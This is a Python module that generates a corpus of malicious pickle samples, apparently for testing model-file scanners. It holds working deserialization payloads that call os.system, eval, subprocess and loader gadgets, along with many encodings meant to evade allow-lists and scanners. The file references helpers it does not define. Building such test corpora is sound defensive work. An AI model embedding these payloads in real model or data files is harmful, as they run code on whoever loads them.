# SPDX-License-Identifier: Apache-2.0
"""Malicious and benign samples for the review, written from knowledge of the formats and not from the reference corpus.

Everything here is deterministic and inert on disk: nothing is ever unpickled. `malicious()` yields (name, bytes) built
by a tiny assembler; each of them would run code, load code, open a file or a connection in a loader that reads it.
`benign()` yields what Python, numpy, joblib, pandas and scikit-learn (as far as they can be imported) really write.
Run as a program it writes both sets: review_samples.py FOLDER.
"""
import bz2
import collections
import datetime
import decimal
import fractions
import gzip
import io
import json
import lzma
import pathlib
import pickle
import struct
import sys
import tarfile
import uuid
import zipfile
import zlib

# --- a pickle assembler: every function gives bytes -----------------------------------------------------------------


def u(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def su(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def by(b):
    return b"B" + struct.pack("<I", len(b)) + b


def g(module, name):
    return ("c%s\n%s\n" % (module, name)).encode()


def sg(module, name):
    return su(module) + su(name) + b"\x93"


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def red(f, *args):
    return f + tup(*args) + b"R"


def p2(body):
    return b"\x80\x02" + body + b"."


def p4(body):
    frame = body + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame


def value(x):
    if isinstance(x, bytes):
        return x  # already assembled
    if isinstance(x, str):
        return u(x)
    if isinstance(x, bool) or x is None:
        return {True: b"\x88", False: b"\x89", None: b"N"}[x]
    if isinstance(x, int):
        return b"J" + struct.pack("<i", x)
    if isinstance(x, list):
        return b"](" + b"".join(map(value, x)) + b"e"
    if isinstance(x, tuple):
        return tup(*map(value, x))
    if isinstance(x, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in x.items()) + b"u"
    raise TypeError(x)


def call(module, name, *args):
    return red(g(module, name), *map(value, args))


SYSTEM = call("os", "system", "id")

# What a loader would be made to call. The arguments are deliberately dull: no address, no shell syntax.
CALLS = """
os system id|os popen id|os execvp id|os execlp id id|os spawnlp 0 id id|os posix_spawn id|os remove model|os putenv A B|os unlink x|os fork
nt system dir|posix system id|posix execv id|posix unlink x|posix._system id|os.path.os system id
subprocess Popen id|subprocess run id|subprocess check_output id|subprocess getoutput id|subprocess call id|subprocess getstatusoutput id
commands getoutput id|popen2 popen3 id|pty spawn id|platform popen id|platform _syscmd_ver x|platform._subprocess run id
ctypes CDLL libc.so.6|ctypes.util find_library c|ctypes.util _findLib_gcc c|ctypes string_at 4096|_ctypes dlopen libc.so.6|cffi FFI|cffi.api FFI.dlopen x
code interact|code InteractiveInterpreter|codeop compile_command x|codeop CommandCompiler|timeit timeit x|timeit main|timeit Timer x
cProfile run x|cProfile runctx x|profile run x|bdb Bdb|pdb run x|pdb runeval x|trace Trace|doctest debug_script x|doctest testmod|pstats Stats x
runpy run_path x|runpy run_module x|runpy _run_code x|pkgutil resolve_name os:system|pkgutil get_loader x|importlib import_module x|importlib reload x
importlib.machinery SourceFileLoader x y|importlib.util spec_from_file_location x y|importlib._bootstrap _load x|imp load_source x y|imp load_dynamic x y
zipimport zipimporter x.zip|zipapp create_archive x|pip main install|pip._internal main install|pip._internal.cli.main main x|ensurepip bootstrap|ensurepip _run_pip x|venv create x|venv main x
webbrowser open x|webbrowser get x|webbrowser GenericBrowser x|webbrowser BackgroundBrowser x|antigravity geohash x
builtins eval x|builtins exec x|builtins compile x y exec|builtins open x w|builtins __import__ x|builtins map x y|builtins filter x y|builtins input|builtins breakpoint|builtins globals|builtins setattr x y z|builtins delattr x y|builtins vars x
__builtin__ eval x|__builtin__ execfile x|__builtin__ apply x|__builtin__ file x w|__builtin__ reload x|__builtins__ eval x|__builtin__ input
types FunctionType x|types CodeType x|types MethodType x y|types LambdaType x|types ModuleType x|types new_class x|marshal loads x|marshal load x
functools partial x|functools reduce x y|functools partialmethod x|functools singledispatch x|_functools partial x|functools lru_cache x
operator methodcaller system id|operator attrgetter system|operator itemgetter 0|operator call x|_operator methodcaller x|operator iconcat x y
itertools starmap x y|itertools accumulate x y|itertools groupby x y|itertools takewhile x y
asyncio create_subprocess_shell id|asyncio run x|asyncio.subprocess create_subprocess_exec id|asyncio.unix_events _UnixSubprocessTransport x|asyncio.tools x|asyncio start_server x
multiprocessing Process|multiprocessing Pool|multiprocessing.util spawnv_passfds id x|multiprocessing.pool ThreadPool 1 x|multiprocessing.spawn prepare x|multiprocessing.reduction ForkingPickler.loads x|multiprocessing.managers BaseManager x
concurrent.futures ThreadPoolExecutor 1|concurrent.futures.thread _worker x|threading Thread x|threading Timer 1 x|_thread start_new_thread x|thread start_new_thread x|sched scheduler x|queue Queue
logging.config dictConfig x|logging.config fileConfig x|logging.config listen|logging FileHandler x|logging basicConfig x|logging.handlers SocketHandler x 1|logging.handlers HTTPHandler x y|logging.handlers RotatingFileHandler x
distutils.spawn spawn x|distutils.file_util write_file x y|distutils.core run_setup x|distutils.dir_util remove_tree x|setuptools.sandbox run_setup x|setuptools setup|pkg_resources run_script x|pkg_resources load_entry_point x
socket create_connection x|socket socket|socket gethostbyname x|_socket socket|urllib.request urlopen x|urllib.request urlretrieve x|urllib urlopen x|urllib2 urlopen x|urllib URLopener|http.client HTTPConnection x|httplib HTTPSConnection x
ftplib FTP x|smtplib SMTP x|telnetlib Telnet x|xmlrpc.client ServerProxy x|xmlrpclib ServerProxy x|imaplib IMAP4_stream id|imaplib IMAP4 x|nntplib NNTP x|poplib POP3 x|ssl get_server_certificate x|wsgiref.simple_server make_server x|socketserver TCPServer x|SocketServer TCPServer x|asyncore dispatcher|asynchat async_chat|smtpd SMTPServer x y
http.server HTTPServer x|SimpleHTTPServer test|BaseHTTPServer test|cgi FieldStorage|cgitb enable|cgitb Hook
shutil rmtree x|shutil copy x y|shutil move x y|shutil unpack_archive x|shutil chown x|pathlib Path.unlink x|pathlib Path.write_text x y|pathlib Path.rename x y|pathlib Path.mkdir x|pathlib Path.symlink_to x y|pathlib Path.chmod x|pathlib PosixPath.write_bytes x|pathlib Path.hardlink_to x
tempfile mkstemp|tempfile NamedTemporaryFile|fileinput input x|linecache getlines x|glob glob x|filecmp cmp x y|io FileIO x|io open x|_io FileIO x|_io open_code x|io open_code x|io.TextIOWrapper x|codecs open x|codecs decode x y|codecs lookup x|_codecs lookup x|_codecs decode x y
tarfile open x|zipfile ZipFile x|zipfile.Path x|gzip open x|gzip GzipFile x|bz2 BZ2File x|bz2 open x|lzma LZMAFile x|lzma open x|sqlite3 connect x|dbm open x|dbm.dumb open x|anydbm open x|shelve open x|mailbox mbox x|netrc netrc x|plistlib load x|wave open x|aifc open x|sunau open x|sndhdr what x|imghdr what x|mimetypes read_mime_types x|tokenize open x|tabnanny check x|uu decode x y|binhex hexbin x|mmap mmap 0 1|pty openpty|fcntl ioctl 0 1|termios tcflush 0 1|syslog syslog x|resource setrlimit 0 1|readline read_init_file x|curses initscr
py_compile compile x|compileall compile_dir x|pyclbr readmodule x|pydoc locate x|pydoc pipepager x id|pydoc tempfilepager x id|pydoc browse|pydoc importfile x|pydoc help x|site addsitedir x|site execusercustomize|sysconfig _main|symtable symtable x y exec|inspect getsource x|inspect getattr_static x y|ast literal_eval x|ast parse x|dis dis x|modulefinder ModuleFinder|rlcompleter Completer
tkinter Tcl|Tkinter Tcl|turtle Turtle|idlelib.run main|idlelib.pyshell main|lib2to3.pgen2.grammar Grammar.load x|lib2to3.pgen2.driver load_grammar x|lib2to3.main main x|unittest main|unittest TestLoader|test.support.script_helper assert_python_ok x|test.support run_unittest x|test.regrtest main
gettext c2py n|gettext translation x|collections namedtuple x y|dataclasses make_dataclass x y|dataclasses _create_fn x y|typing get_type_hints x|typing.ForwardRef x|string.Formatter format x|enum Enum x|argparse FileType w|contextlib ExitStack|weakref finalize x y|atexit register x|signal signal 1 x|faulthandler register 1|sys setprofile x|sys settrace x|sys exit|sys.path append x|sys.modules pop x|gc get_objects|copyreg add_extension x y 1|copyreg pickle x y|copy_reg constructor x|copy copy x|reprlib Repr|cmd Cmd
pickle loads x|pickle load x|_pickle loads x|cPickle loads x|pickle Unpickler x|_pickle Unpickler x|pickletools dis x|_compat_pickle x|_interpreters exec x|_xxsubinterpreters run_string x|_testcapi run_in_subinterp x|_testinternalcapi x|_osx_support _read_output id|_aix_support _read_cmd_output id|uuid _get_command_stdout id|_posixsubprocess fork_exec x|_winapi CreateProcess x|winreg CreateKey x|msvcrt getch|_pyrepl.pager pipe_pager x id|_sitebuiltins Quitter x
numpy.f2py.crackfortran getlincoef x|numpy.f2py.crackfortran param_eval x|numpy.f2py.crackfortran _eval_length x|numpy.f2py.capi_maps getinit x|numpy.f2py.diagnose run_command id|numpy.f2py compile x|numpy.testing._private.utils runstring x|numpy.testing measure x|numpy.testing rundocs x|numpy load x|numpy loadtxt x|numpy fromfile x|numpy save x|numpy savez x|numpy memmap x|numpy.ctypeslib load_library x y|numpy.distutils.exec_command exec_command id|numpy.lib.utils source x|numpy.lib.format open_memmap x|numpy.lib.npyio NpzFile x|numpy.core.records fromfile x|numpy.ndarray tofile x y|numpy.ndarray dump x y|numpy DataSource x|numpy.lib._datasource open x|numpy vectorize x|numpy.lib.format read_array x|numpy.core.memmap memmap x|numpy.core.shape_base.overrides array_function_dispatch x|numpy.core._ufunc_reconstruct os system|numpy.core._internal._ufunc_reconstruct os system
torch load x|torch save x y|torch.serialization load x|torch.serialization _legacy_load x|torch.hub load x y|torch.hub _import_module x y|torch.hub load_state_dict_from_url x|torch.jit load x|torch.jit CompilationUnit x|torch.jit script x|torch.package PackageImporter x|torch.utils.cpp_extension load_inline x y|torch.utils.cpp_extension load x y|torch.ops.load_library x|torch.classes.load_library x|torch.distributed.rpc rpc_sync x y|torch.distributed.launch main|torch.multiprocessing spawn x|torch.fx GraphModule x y|torch.fx.graph_module reduce_graph_module x y|torch.fx.graph_module _exec_with_source x y|torch.utils._config_module load_config x|torch.utils.data.datapipes.utils.decoder basichandlers x y|torch.utils.data DataLoader x|torch.utils.tensorboard SummaryWriter x|torch.utils.model_zoo load_url x|torch.utils.bottleneck.__main__ run_cprofile x|torch.utils.collect_env run id|torch.utils.show_pickle main x|torch from_file x|torch.FloatStorage.from_file x|torch.UntypedStorage.from_file x|torch._C._import_ir_module x|torch._C.import_ir_module x|torch._C._load_for_lite_interpreter x|torch._C._jit_unpickle x|torch.mobile x|torch.backends.xeon.run_cpu main x|torch._inductor.codecache PyCodeCache.load x|torch._inductor.compile_worker.subproc_pool x|torch._dynamo.guards GuardBuilder.get x|torch._dynamo.bytecode_transformation x|torch.onnx export x|torch.export load x|torch._export.serde x|torch.library Library x|torch.nn.modules.module torch.load x|torch.nn.modules.module torch.hub.load x|torch.nn.functional torch.load x|torch.optim.optimizer torch.load x|torch.distributed.checkpoint load x|torch.cuda.jiterator _create_jit_fn x|torch.autograd.profiler profile|torch.serialization add_safe_globals x|torch.serialization set_default_load_endianness x
torchvision.datasets.utils download_url x y|torchvision.io read_file x|torchaudio load x|joblib load x|joblib.numpy_pickle load x|joblib.numpy_pickle _unpickle x|joblib Memory x|joblib.memory Memory x|joblib Parallel|joblib.externals.loky get_reusable_executor|joblib.externals.cloudpickle loads x|joblib dump x y|joblib.func_inspect get_func_code x
sklearn.datasets load_svmlight_file x|sklearn.datasets fetch_openml x|sklearn.externals.joblib load x|sklearn.utils.parallel Parallel|sklearn.base os.system id|sklearn.utils.fixes x|sklearn.externals._arff load x|pandas read_pickle x|pandas eval x|pandas read_csv x|pandas read_hdf x|pandas read_sql x|pandas.io.pickle read_pickle x|pandas.io.common get_handle x|pandas.core.computation.eval eval x|pandas.core.frame DataFrame.to_csv x y|pandas.core.frame DataFrame.eval x y|pandas.core.frame DataFrame.query x y|pandas.core.generic NDFrame.to_pickle x y|pandas.compat.pickle_compat load x|pandas.util._tester test
transformers pipeline x|transformers AutoModel.from_pretrained x|transformers.modeling_utils PreTrainedModel.from_pretrained x|transformers.dynamic_module_utils get_class_from_dynamic_module x y|transformers.utils.hub cached_file x y|transformers Trainer x|transformers.tools PythonInterpreter|transformers BertTokenizer x|transformers TrainingArguments x|transformers.models.auto AutoConfig.from_pretrained x|peft PeftModel.from_pretrained x|sentence_transformers SentenceTransformer x|diffusers DiffusionPipeline.from_pretrained x|keras.models load_model x|keras.utils get_file x|tensorflow.keras.models load_model x|tensorflow load_op_library x|tensorflow load_library x|tensorflow.io read_file x|tensorflow.raw_ops ReadFile x|tensorflow py_function x|tensorflow.python.framework.load_library load_op_library x|tensorflow.saved_model load x|onnxruntime InferenceSession x|onnx load x|gensim.utils unpickle x|gensim.models.word2vec Word2Vec.load x|gensim.models.fasttext load_facebook_model x|nltk.data load x|nltk.app x|nltk.tag.stanford StanfordTagger x|spacy load x|skops.io load x|mlflow.pyfunc load_model x|omegaconf OmegaConf.load x|hydra.utils instantiate x|hydra.utils get_method x|lightgbm Booster x|xgboost Booster x|catboost CatBoost.load_model x y|statsmodels.iolib.smpickle load_pickle x|statsmodels.base.wrapper ResultsWrapper.load x|statsmodels.formula.api ols x y|statsmodels.datasets get_rdataset x|patsy dmatrix x|sympy sympify x|sympy.parsing.sympy_parser parse_expr x|numexpr evaluate x|numba jit x|cython inline x|pyximport install|scipy.io loadmat x|scipy.weave inline x|h5py File x|PIL.Image open x|PIL.ImageMath eval x|PIL.ImageMath unsafe_eval x|matplotlib.image imread x|cv2 imread x
dill loads x|dill._dill _create_function x|dill._dill _import_module x|_dill _create_code x|cloudpickle loads x|cloudpickle.cloudpickle _make_function x|cloudpickle.cloudpickle _builtin_type CodeType|jsonpickle decode x|yaml unsafe_load x|yaml load x|yaml Loader x|ruamel.yaml load x|jinja2 Template x|jinja2 Environment.from_string x|mako.template Template x|tornado.template Template x|django.template Template x|flask render_template_string x|IPython start_ipython|IPython.core.interactiveshell InteractiveShell.run_cell x|ray init|celery Celery x|dask.distributed Client x|distributed Client x|fire Fire x|invoke run id|sh Command id|plumbum local id|fabric Connection x|paramiko SSHClient|psutil Popen id|pexpect spawn id|pexpect run id|docker from_env|git Repo.clone_from x y|boto3 client s3|botocore.session Session|google.cloud.storage Client|pymongo MongoClient x|redis Redis x|psycopg2 connect x|requests get x|httpx get x|aiohttp request x y|urllib3 PoolManager|websocket create_connection x|zmq Context|fsspec open x|s3fs S3FileSystem|smart_open open x|huggingface_hub hf_hub_download x y|huggingface_hub snapshot_download x|datasets load_dataset x|kagglehub model_download x|gdown download x|wget download x|execnet makegateway x|pyautogui write x|pynput.keyboard Controller|win32api ShellExecute x|comtypes.client CreateObject x|picklescan.scanner scan_file_path x|fickling.hook run_hook|fickling.hook deactivate_safe_ml_environment|modelscan.modelscan ModelScan|site.sys exit
"""

# Attribute walks: a name that says something harmless and reaches something else (protocol 4 splits at dots).
WALKS = ["pathlib os.system", "collections _sys.modules", "random _os.system", "json.decoder scanner.re.enum.sys.exit", "statistics sys.modules.get", "shlex os.system",
         "numpy.core numeric.os.system", "numpy compat.os.popen", "torch.nn modules.module.torch.os.system", "torch serialization.os.system", "sklearn.base inspect.os.system",
         "transformers utils.os.popen", "datetime sys.modules", "decimal _sys.modules", "uuid os.popen", "fractions decimal.sys.exit", "torch._utils traceback.linecache.os.system",
         "logging os.system", "argparse _os.system", "scipy.sparse _lib.os.system", "builtins object.__subclasses__", "builtins int.__class__.__base__", "numpy ndarray.__class__",
         "torch.nn Module.__init__.__globals__.get", "collections OrderedDict.__init__.__func__", "sklearn.base BaseEstimator.__repr__.__globals__.pop", "copyreg __builtins__.get",
         "torch _utils_internal.os.system", "xgboost.core os.system", "lightgbm.basic json.codecs.open", "joblib.numpy_pickle pickle.loads", "joblib.numpy_pickle os.system", "pandas.core.frame sys.modules.get"]


# A second set, written after the lists had been changed because of the first, and not used to change them again.
LATER = """
asyncio.events get_event_loop|xdrlib Unpacker x|pickle _loads x|_pickle loads x|bdb Tdb x|pdb Pdb.runcall x|ctypes.wintypes DWORD|ctypes cast x y|_ctypes call_function x y|os.path expanduser x|posixpath genericpath.os.system id
nt.spawnv x y|subprocess _args_from_interpreter_flags|pty fork|os startfile x|os kill 1 9|os chmod x 7|os symlink x y|os.execve x|importlib.resources path x y|importlib.metadata entry_points|importlib.abc Loader.load_module x
pkgutil get_data x y|runpy _run_module_code x|zipimport _read_directory x|site addpackage x y|distutils.command.build_ext build_ext x|distutils.ccompiler new_compiler|setuptools.command.easy_install main x|pip._vendor.requests get x|pip._internal.utils.subprocess call_subprocess x
ensurepip._main x|venv EnvBuilder|webbrowser.UnixBrowser x|turtledemo.__main__ main|idlelib.autocomplete AutoComplete.fetch_completions|lib2to3.refactor RefactoringTool x|ast NodeVisitor|code.InteractiveConsole push x|codeop Compile|timeit.repeat x|trace.Trace.run x|cProfile.Profile.run x|profile.Profile.run x
numpy.f2py.crackfortran crackfortran x|numpy.testing._private.utils exec_command x|numpy.core.function_base add_newdoc x|numpy.lib._utils_impl source x|numpy.ctypeslib.as_ctypes_type x|numpy.random.mtrand __import__ x|numpy.distutils.system_info get_info x|numpy.compat.py3k npy_load_module x y|numpy.ma.core fromfile x|numpy.lib.npyio.DataSource x
torch._utils_internal prepare_multiprocessing_environment x|torch.utils.hipify.hipify_python hipify x|torch._lazy x|torch.distributed.elastic.multiprocessing start_processes x|torch.jit.annotations get_type_line x|torch._jit_internal get_callable x|torch._sources parse_def x|torch.ao.quantization x|torch.autograd.forward_ad x|torch.nn.modules.module.os.system id|torch.package.importer sys_importer.import_module os|torch._weights_only_unpickler load x|torch.utils._cpp_extension_versioner hash_source_files x|torch.sparse._triton_ops x|torch.utils.data.graph traverse x|torch.utils.serialization config|torch.distributed.fsdp x|torch.nn.parallel.scatter_gather x
sklearn.utils._joblib x|sklearn.utils.validation joblib.load x|sklearn.inspection x|sklearn.utils.metaestimators attrgetter x|pandas.core.apply frame_apply x|pandas._libs.lib map_infer x y|pandas.core.generic pickle.loads x|pandas.testing x|scipy.optimize._minimize x|scipy._lib._util MapWrapper x|scipy.special._testutils x|xgboost.spark x|lightgbm.dask x|catboost.utils x|transformers.models.auto.tokenization_auto x|transformers.utils.logging os.system id|transformers.file_utils x|transformers.convert_graph_to_onnx x|accelerate.commands.launch main|accelerate.utils.launch x|peft.utils.save_and_load load_peft_weights x|timm.models._hub load_custom_from_hf x|timm.models create_model x|gensim.downloader load x|nltk.downloader download x|fasttext load_model x|tokenizers.Tokenizer from_file x|diffusers.pipelines x|keras.saving deserialize_keras_object x|keras.layers Lambda x|tensorflow.keras.utils get_file x y|tensorflow.compat.v1 py_func x|jax.experimental x|jaxlib.xla_extension x|mxnet.nd load x|paddle load x|flax.serialization from_bytes x|haiku x|theano.misc.pkl_utils load x|chainer.serializers load_npz x
deepspeed.launcher x|horovod.run x|pytorch_lightning.utilities.cloud_io load x|omegaconf.OmegaConf create x|hydra.main x|mlflow.projects run x|wandb init|bentoml.picklable_model load x|cloudpickle.cloudpickle _make_skeleton_class x|dill.session load_session x|dill.source getsource x|pathos.pools x|multiprocess.process x|loky.process_executor x|billiard x|gevent.subprocess Popen x|eventlet x|trio run x|anyio run_process x|twisted.internet.utils getProcessOutput x|win32com.client Dispatch x|pywintypes x|_winapi.CreateProcess x|tkinter.Tk|wx App|PyQt5.QtCore QProcess|gi.repository x|dbus SystemBus|pwd getpwnam x|spwd getspnam x|crypt crypt x y|ossaudiodev open x|smtplib.SMTP_SSL x|xml.sax parse x|xml.etree.ElementTree parse x|xml.dom.minidom parse x|lxml.etree parse x|csv reader x|json.tool main|ftplib.FTP_TLS x|http.cookiejar MozillaCookieJar x|urllib.request.build_opener|email.message_from_file x|zipfile.ZipFile.extractall x|tarfile.TarFile.extractall x|shutil._unpack_zipfile x|pkg_resources.resource_filename x y|pty._copy x|selectors.DefaultSelector|ssl.create_default_context|sqlite3.dbapi2 connect x|sqlalchemy create_engine x|dataset connect x|peewee SqliteDatabase x|pyodbc connect x|ldap3 Connection x|telnetlib.Telnet.interact|pexpect.spawnu x|ptyprocess PtyProcess.spawn x|sarge run x|delegator run x
"""


def gadget_calls(table=CALLS):
    for line in table.strip().splitlines():
        for entry in line.split("|"):
            words = entry.split()
            module, name, args = (words + ["x"])[0], (words + ["x"])[1], words[2:]
            yield module, name, [int(a) if a.isdigit() else a for a in args]


def in_all_dresses(name, module, attr, arg):
    """The same call by every route an unpickler knows."""
    gl, st, a = g(module, attr), sg(module, attr), u(arg)
    yield name + "-p0", (b"c%s\n%s\n(V%s\ntR." % (module.encode(), attr.encode(), arg.encode()))
    yield name + "-p1", b"c%s\n%s\n(U%c%stR." % (module.encode(), attr.encode(), len(arg), arg.encode())
    yield name + "-p2", p2(gl + a + b"\x85R")
    yield name + "-p4", p4(st + a + b"\x85R")
    yield name + "-inst", b"(V%s\ni%s\n%s\n." % (arg.encode(), module.encode(), attr.encode())
    yield name + "-obj", p2(b"(" + gl + a + b"o")
    yield name + "-newobj", p2(gl + a + b"\x85\x81")
    yield name + "-newobj-ex", p4(st + a + b"\x85}\x92")
    yield name + "-newobj-kw", p4(st + b")}" + su("cmd") + a + b"s\x92")
    yield name + "-dup", p2(a + b"2" + b"0" + gl + b"q\0" + b"h\0" + a + b"\x85R")
    yield name + "-memo-name", p4(su(module) + b"\x94" + su(attr) + b"\x94" + b"00" + b"h\0h\1\x93" + a + b"\x85R")
    yield name + "-memo-far", p4(su(attr) + b"r\x10\x27\0\0" + b"0" + su(module) + b"j\x10\x27\0\0\x93" + a + b"\x85R")
    yield name + "-escaped-v", p4(b"V" + "".join("\\u%04x" % ord(c) for c in module).encode() + b"\n" + su(attr) + b"\x93" + a + b"\x85R")
    yield name + "-escaped-s", b"\x80\x04S'" + "".join("\\x%02x" % ord(c) for c in module).encode() + b"'\n" + su(attr) + b"\x93" + a + b"\x85R."
    yield name + "-octal-s", b"\x80\x04S'" + "".join("\\%03o" % ord(c) for c in module).encode() + b"'\n" + su(attr) + b"\x93" + a + b"\x85R."
    yield name + "-binunicode8", b"\x80\x04\x8d" + struct.pack("<Q", len(module)) + module.encode() + su(attr) + b"\x93" + a + b"\x85R."
    yield name + "-popped", p2(gl + a + b"\x85R0N")
    yield name + "-popmark", p2(b"(" + gl + a + b"\x85R1N")
    yield name + "-in-list", p2(b"](" + u("weight") + gl + a + b"\x85Re")
    yield name + "-as-key", p2(b"}(" + gl + a + b"\x85R" + b"K\1u")
    yield name + "-as-state", p2(g("collections", "OrderedDict") + b")R}(" + u("x") + gl + a + b"\x85Rub")
    yield name + "-as-arg", p2(red(g("collections", "OrderedDict"), b"](" + gl + a + b"\x85Re"))
    yield name + "-reconstructor", p2(red(g("copyreg", "_reconstructor"), gl, gl, a))
    yield name + "-newobj-func", p2(red(g("copyreg", "__newobj__"), gl, a))
    yield name + "-partial", p2(red(red(g("functools", "partial"), gl, a)))
    yield name + "-second-stream", pickle.dumps({"w": 1.5}, 2) + p2(gl + a + b"\x85R")
    yield name + "-tenth-stream", pickle.dumps([0] * 9, 4) * 9 + b"\n" + p4(st + a + b"\x85R")
    yield name + "-after-text-stream", b"I1\n." + b"(V%s\ni%s\n%s\n." % (arg.encode(), module.encode(), attr.encode())
    yield name + "-broken-tail", p2(gl + a + b"\x85R")[:-1] + b"\xff\xfe\xfd"
    yield name + "-no-stop", p2(gl + a + b"\x85R")[:-1]
    yield name + "-underflow-tail", p2(gl + a + b"\x85R0000")
    yield name + "-bad-memo-tail", p2(gl + a + b"\x85Rh\xff")
    yield name + "-proto-lies", b"\x80\x00" + (gl + a + b"\x85R.")
    yield name + "-no-proto-v4", st + a + b"\x85R."
    yield name + "-proto-twice", b"\x80\x02\x80\x04" + st + a + b"\x85R."
    yield name + "-long-junk", p2(by(bytes(70000)) + b"0" + gl + a + b"\x85R")
    yield name + "-deep-marks", p2(b"(" * 3000 + gl + a + b"\x85R")
    yield name + "-many-names", p2(b"".join(g("m%d" % i, "N") + b"0" for i in range(5000)) + gl + a + b"\x85R")


def nested_and_contained():
    evil2, evil0 = p2(SYSTEM), b"cos\nsystem\n(S'id'\ntR."
    evil4 = p4(red(sg("posix", "system"), su("id")))
    # a loader inside the allow-list that unpickles its literal
    for n, e in (("p0", evil0), ("p2", evil2), ("p4", evil4), ("legacy", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + evil2)):
        yield "load-from-bytes-" + n, p2(red(g("torch.storage", "_load_from_bytes"), by(e)))
        yield "pickle-loads-" + n, p2(red(g("pickle", "loads"), by(e)))
    yield "load-from-bytes-zip", p2(red(g("torch.storage", "_load_from_bytes"), by(zipped(("archive/data.pkl", evil2), ("archive/version", b"3")))))
    deep = evil2
    for _ in range(9):
        deep = p2(red(g("torch.storage", "_load_from_bytes"), by(deep)))
    yield "load-from-bytes-deep", deep
    yield "load-from-bytes-300th", p2(b"](" + by(pickle.dumps([1] * 9, 2)) * 300 + red(g("torch.storage", "_load_from_bytes"), by(evil2)) + b"e")
    # names that are computed, so that no list can see them
    yield "name-computed", p4(red(g("builtins", "str"), by(b"os"), u("ascii")) + su("system") + b"\x93" + su("id") + b"\x85R")
    yield "name-bytes", p4(b"C\2os" + b"C\6system" + b"\x93" + su("id") + b"\x85R")
    yield "name-encoded", p4(red(g("_codecs", "encode"), u("os"), u("latin1")) + su("system") + b"\x93" + su("id") + b"\x85R")
    # chains
    yield "getattr-chain", p2(red(red(g("builtins", "getattr"), red(g("builtins", "__import__"), u("os")), u("system")), u("id")))
    yield "getattr-on-class", p2(red(red(g("builtins", "getattr"), g("torch.nn", "Module"), u("__init__"))))
    yield "getattr-upper", p2(red(red(g("builtins", "getattr"), g("pathlib", "Path"), u("Os")), u("id")))
    yield "type-with-reduce", p2(red(red(g("builtins", "type"), u("X"), tup(g("builtins", "object")), b"}(" + u("__init__") + g("os", "system") + b"u"), u("id")))
    yield "map-list", p2(red(g("builtins", "list"), red(g("builtins", "map"), g("os", "system"), b"](" + u("id") + b"e")))
    yield "map-unknown-fn", p2(red(g("builtins", "list"), red(g("builtins", "map"), g("helper.mod", "run"), b"](" + u("id") + b"e")))
    yield "deque-of-map", p2(red(g("collections", "deque"), red(g("itertools", "starmap"), g("helper", "run"), b"](" + tup(u("id")) + b"e")))
    yield "defaultdict-factory", p2(red(g("collections", "defaultdict"), g("os", "getcwd")))
    yield "defaultdict-unknown-factory", p2(red(g("collections", "defaultdict"), g("helper.mod", "run")))
    yield "build-setstate", p2(g("sklearn.base", "BaseEstimator") + b")\x81}" + u("__setstate__") + g("os", "system") + b"sb" + u("id") + b"b")
    yield "build-class", p2(g("sklearn.base", "BaseEstimator") + b")\x81}" + u("__class__") + g("helper.mod", "Evil") + b"sb")
    yield "build-slots", p2(g("collections", "OrderedDict") + b")R" + b"N}" + u("__class__") + g("helper.mod", "Evil") + b"s\x86b")
    yield "build-module", p2(g("torch.nn", "functional") + b"}" + u("relu") + g("os", "system") + b"sb")
    yield "build-type", p2(g("collections", "OrderedDict") + b"}" + u("update") + g("helper", "run") + b"sb")
    yield "setitem-modules", p2(g("sys", "modules") + u("torch") + g("helper", "x") + b"s")
    yield "append-gadget", p2(g("sys", "path") + u("x") + b"a")
    yield "append-on-unknown", p2(g("helper.mod", "Hook") + b")\x81" + u("id") + b"a")
    yield "additems-on-unknown", p4(sg("helper.mod", "Hook") + b")\x81(" + su("id") + b"\x90")
    yield "call-a-call", p2(red(red(g("helper.mod", "make"), u("a")), u("b")))
    yield "ext-called", p2(b"\x82\x07)R")
    yield "ext4-imported", p2(b"\x84\x01\x02\x03\x00")
    # allow-listed names used in ways nobody uses them
    yield "memmap-newobj", p2(g("numpy", "memmap") + tup(u("model.bin"), u("uint8"), u("w+"), b"K\0", tup(b"K\x40")) + b"\x81")
    yield "memmap-new-index", p2(red(g("pandas.core.indexes.base", "_new_Index"), g("numpy", "memmap"), b"}(" + u("filename") + u("model") + u("mode") + u("w+") + u("shape") + b"K\1u"))
    yield "bit-generator-any-class", p2(red(g("numpy.random._pickle", "__bit_generator_ctor"), g("helper.mod", "Evil")))
    yield "dist-metric-any-class", p2(red(g("sklearn.metrics._dist_metrics", "newObj"), g("helper.mod", "Evil")))
    yield "reconstructor-init", p2(red(g("copyreg", "_reconstructor"), g("sentence_transformers", "SentenceTransformer"), g("sentence_transformers", "SentenceTransformer"), u("owner/model")))
    yield "enum-like-model", p2(red(g("transformers", "AutoModelForCausalLM"), u("model")))
    yield "enum-like-tokenizer", p2(red(g("transformers", "PreTrainedTokenizerFast"), u("model")))
    yield "enum-like-peft", p2(red(g("peft", "PeftModelForCausalLM"), u("model")))
    yield "rebuild-from-type", p2(red(g("torch._tensor", "_rebuild_from_type_v2"), g("helper", "run"), g("torch", "Tensor"), tup(u("id")), b"}"))
    yield "rebuild-from-type-reconstructor", p2(red(g("torch._tensor", "_rebuild_from_type_v2"), g("copyreg", "_reconstructor"), g("torch", "Tensor"), tup(g("sentence_transformers", "SentenceTransformer"), g("sentence_transformers", "SentenceTransformer"), u("m")), b"}"))
    yield "rebuild-parameter-type", p2(red(g("torch._utils", "_rebuild_parameter"), red(g("helper", "run"), u("id")), b"\x89", red(g("collections", "OrderedDict"))))
    yield "rebuild-wrapper-subclass", p2(red(g("torch._utils", "_rebuild_wrapper_subclass"), g("helper.mod", "Evil"), u("x")))
    yield "ufunc-reconstruct", p2(red(red(g("numpy._core", "_ufunc_reconstruct"), u("os"), u("system")), u("id")))
    yield "numpy-apply", p2(red(g("numpy", "apply_along_axis"), g("helper", "run"), b"K\0", u("x")))
    # containers of every kind, under names that say something else
    yield "zip-deflated", zipped(("weights/0", evil2))
    yield "zip-stored-nested", zipped(("a/b.zip", zipped(("c", evil4), method=zipfile.ZIP_STORED)))
    yield "zip-bz2-member", zipped(("x", evil2), method=zipfile.ZIP_BZIP2)
    yield "zip-lzma-member", zipped(("x", evil2), method=zipfile.ZIP_LZMA)
